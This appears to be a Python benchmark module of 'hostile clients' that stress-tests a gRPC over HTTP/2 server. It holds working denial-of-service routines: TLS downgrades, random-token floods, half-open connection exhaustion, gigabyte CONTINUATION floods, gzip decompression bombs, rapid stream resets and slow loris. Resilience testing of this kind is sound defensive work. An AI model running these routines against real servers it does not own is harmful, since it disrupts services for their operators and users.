"""Hostile clients, each of which attacks as fast as it can until it is killed.

Run as ``python -m benchmarks.hostile.scans NAME HOST TOKEN CA PORT...``. They have the lowest CPU priority, since real
ones would have their own machine.
"""

from __future__ import annotations

import itertools
import os
import resource
import secrets
import socket
import ssl
import sys
import threading
import time
import warnings
import zlib
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass

from bngrad_wire.http2 import frames
from bngrad_wire.http2.errors import ErrorCode
from bngrad_wire.http2.header_block import encode

_PATH = "/bngrad.v1.BatchNormGradService/FusedBatchNormGradV2"
_TIMEOUT_S = 5.0
_HALF_OPEN = 10_000
_DRIPPING = 500
_DRIP_S = 0.1
_METADATA_BYTES = 2**30
_PREFACE = frames.PREFACE + frames.settings({})
_GZIP_ZEROS_BYTES = 2**30


@dataclass(frozen=True)
class Victim:
    """A server's address, and the credentials for it."""

    address: tuple[str, int]
    token: str
    ca: str

    def plain(self) -> socket.socket:
        return socket.create_connection(self.address, _TIMEOUT_S)

    def secure(self) -> ssl.SSLSocket:
        context = ssl.create_default_context(cafile=self.ca)
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(self.plain(), server_hostname=self.address[0])


def wrong_tls(victim: Victim) -> None:
    """Connects without TLS, with an outdated version, and without the server's authority."""
    old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
    old.set_ciphers("ALL:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        old.maximum_version = ssl.TLSVersion.TLSv1_1
    for how in itertools.cycle((None, old, ssl.create_default_context())):
        with suppress(OSError), victim.plain() as sock:
            if how is not None:
                how.wrap_socket(sock, server_hostname="elsewhere.example").close()
            else:
                sock.sendall(_PREFACE)
                sock.recv(2**16)


def wrong_token(victim: Victim) -> None:
    """Makes calls with random tokens."""
    message = b"\0" + (5000).to_bytes(4, "big") + bytes(5000)
    while True:
        with suppress(OSError), victim.secure() as sock:
            sock.sendall(_PREFACE)
            for stream in range(1, 2**20, 2):
                data = frames.frame(frames.DATA, frames.END_STREAM, stream, message)
                sock.sendall(_headers(stream, f"Bearer {secrets.token_hex()}") + data)
                _receive_end(sock, stream)


def garbage(victim: Victim) -> None:
    """Sends random bytes, also within TLS."""
    for connect in itertools.cycle((victim.plain, victim.secure)):
        with suppress(OSError), connect() as sock:
            sock.sendall(secrets.choice((b"", _PREFACE)) + secrets.token_bytes(2**14))
            while sock.recv(2**16):
                pass


def half_open(victim: Victim) -> None:
    """Opens thousands of connections and sends nothing or part of a TLS handshake; reopens those that are closed."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    held: list[socket.socket] = []
    for number in itertools.count():
        if len(held) == _HALF_OPEN // 2:
            oldest = held.pop(secrets.randbelow(len(held)))
            oldest.close()
            time.sleep(0.001)
        with suppress(OSError):
            held.append(victim.plain())
            if number % 2:
                held[-1].sendall(b"\x16\x03\x01\x02\x00\x01")


def metadata(victim: Victim) -> None:
    """Sends a gigabyte of metadata, on as many connections as that needs."""
    block = encode([(f"x-{number}", "x" * 4000) for number in range(4)])[: frames.MIN_FRAME_SIZE]
    more = frames.frame(frames.CONTINUATION, 0, 1, block) * 16
    sent = 0
    while True:
        with suppress(OSError), victim.secure() as sock:
            sock.sendall(_PREFACE + frames.frame(frames.HEADERS, 0, 1, block))
            while sent < _METADATA_BYTES:
                sock.sendall(more)
                sent += len(more)
        if sent >= _METADATA_BYTES:
            sent = 0


def bombs(victim: Victim) -> None:
    """Sends compressed messages of a megabyte that expand to a gigabyte, with a valid token."""
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(_GZIP_ZEROS_BYTES // 2**20)) + packer.flush()
    message = b"\1" + len(packed).to_bytes(4, "big") + packed
    while True:
        with suppress(OSError), victim.secure() as sock:
            sock.sendall(_PREFACE + _headers(1, f"Bearer {victim.token}", [("grpc-encoding", "gzip")]))
            for start in range(0, len(message), frames.MIN_FRAME_SIZE):
                sock.sendall(frames.frame(frames.DATA, 0, 1, message[start : start + frames.MIN_FRAME_SIZE]))
            _receive_end(sock, 1)


def resets(victim: Victim) -> None:
    """Opens calls without a token and resets them at once, without waiting for anything."""
    while True:
        with suppress(OSError), victim.secure() as sock:
            sock.sendall(_PREFACE)
            for stream in range(1, 2**20, 2):
                sock.sendall(_headers(stream, "") + frames.rst_stream(stream, ErrorCode.CANCEL))


def slow_loris(victim: Victim) -> None:
    """Sends the headers of hundreds of calls byte by byte."""
    said = _PREFACE + _headers(1, f"Bearer {victim.token}")
    held: list[tuple[ssl.SSLSocket, int]] = []
    while True:
        while len(held) < _DRIPPING // 2:
            with suppress(OSError):
                held.append((victim.secure(), 0))
        rest = []
        for sock, count in held:
            try:
                sock.sendall(said[count : count + 1])
                rest.append((sock, count + 1))
            except OSError:
                sock.close()
        held = rest
        time.sleep(_DRIP_S)


SCANS: dict[str, Callable[[Victim], None]] = {
    scan.__name__: scan for scan in (wrong_tls, wrong_token, garbage, half_open, metadata, bombs, resets, slow_loris)
}


def _headers(stream: int, authorization: str, extra: list[tuple[str, str]] | None = None) -> bytes:
    block = encode([
        (":method", "POST"), (":scheme", "https"), (":path", _PATH), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", authorization), *(extra or ()),
    ])  # fmt: skip
    return b"".join(frames.header_block(stream, block, 0))


def _receive_end(sock: socket.socket, stream: int) -> None:
    """Waits for the end of a call; raises OSError if the connection ends."""
    received = b""
    while True:
        said = sock.recv(2**16)
        if not said:
            raise ConnectionError("the server has closed the connection")
        received += said
        while len(received) >= frames.HEADER_NBYTES:
            length, kind, flags, of = frames.parse_header(received, 0)
            if len(received) < frames.HEADER_NBYTES + length:
                break
            received = received[frames.HEADER_NBYTES + length :]
            if of == stream and (kind == frames.RST_STREAM or (kind == frames.HEADERS and flags & frames.END_STREAM)):
                return


def main() -> None:
    name, host, token, ca, *ports = sys.argv[1:]
    os.nice(19)
    for port in ports:
        victim = Victim((host, int(port)), token, ca)
        threading.Thread(target=SCANS[name], args=(victim,), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
